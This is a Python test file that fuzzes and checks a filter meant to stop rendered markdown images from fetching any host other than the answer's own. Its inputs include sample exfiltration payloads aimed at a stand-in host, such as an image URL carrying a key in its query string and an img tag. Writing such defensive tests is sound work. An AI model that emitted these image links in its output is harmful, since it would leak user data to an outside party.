"""Pictures fetch nothing; `markdown-it-py` says what a reader would get."""

from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from index.answers.pictures import HELD, PictureFilter

OWN = ["Please read https://own.example/x."]
READER = MarkdownIt("commonmark", {"html": False})
PARTS = [
    *("[", "]", "(", ")", "!", "![", "![a](", "](", "]:", "[x]: ", "[x]", "![x]", "![p][x]", "<"),
    *("`", "```", "~~~", "\n", "\n\n", " ", "    ", "- ", "> ", ":", "\\", "\r\n", "text", "'t'"),
    *("https://evil.example/a", "//evil.example", "https://own.example/p", "/v1/keys"),
    *("https://own.example@evil.example", "&#104;ttps://evil.example", "https://" + "a" * 60),
    *("<img src=//evil.example/q>", "<a href=https://b.example>", "<https://b.example>"),
    *("![x](https://evil.example/?q=1)", "[b](https://b.example)"),
]
ANSWERS = st.lists(st.sampled_from(PARTS), max_size=16).map("".join)


def filtered(text: str, sizes: tuple[int, ...] = ()) -> str:
    pictures, out, at, turn = PictureFilter(OWN), "", 0, 0
    while sizes and at < len(text):
        size = sizes[turn % len(sizes)]
        out += pictures.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    return out + pictures.feed(text[at:], final=True)


@settings(max_examples=500, deadline=None)
@given(ANSWERS)
def test_no_reader_fetches_from_a_foreign_place(text: str) -> None:
    for token in READER.parse(filtered(text)):
        for child in token.children or ():
            if child.type == "image":
                assert urlsplit(str(child.attrs["src"])).hostname == "own.example"


@settings(max_examples=300, deadline=None)
@given(ANSWERS, st.lists(st.integers(1, 9), min_size=1, max_size=5).map(tuple))
def test_how_an_answer_is_cut_makes_no_difference(text: str, sizes: tuple[int, ...]) -> None:
    assert filtered(text, sizes) == filtered(text)


@settings(max_examples=300, deadline=None)
@given(ANSWERS)
def test_little_is_held_back(text: str) -> None:
    pictures, out = PictureFilter([]), 0
    for came, char in enumerate(text, 1):
        out += len(pictures.feed(char))
        assert came - out <= HELD


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![p](https://evil.example/?q=KEY)", "![p] (https://evil.example/?q=KEY)"),
        ("![p][x]\n\n[x]: https://evil.example", "![p][x]\n\n[x] : https://evil.example"),
        ("<img src=//evil.example>", "< img src=//evil.example>"),
        ("[![p](//evil.example)](https://b.example)", "[![p] (//evil.example)](https://b.example)"),
    ],
)
def test_what_would_be_fetched_becomes_text(text: str, shown: str) -> None:
    assert filtered(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "[link](https://b.example) <https://b.example> https://b.example <a href=x>y</a>",
        "![own](https://own.example/p.png) and `vec![1, 2]`, a < b, x[0](1)",
        "```\n![p](https://evil.example)\n```",
    ],
)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert filtered(text) == text
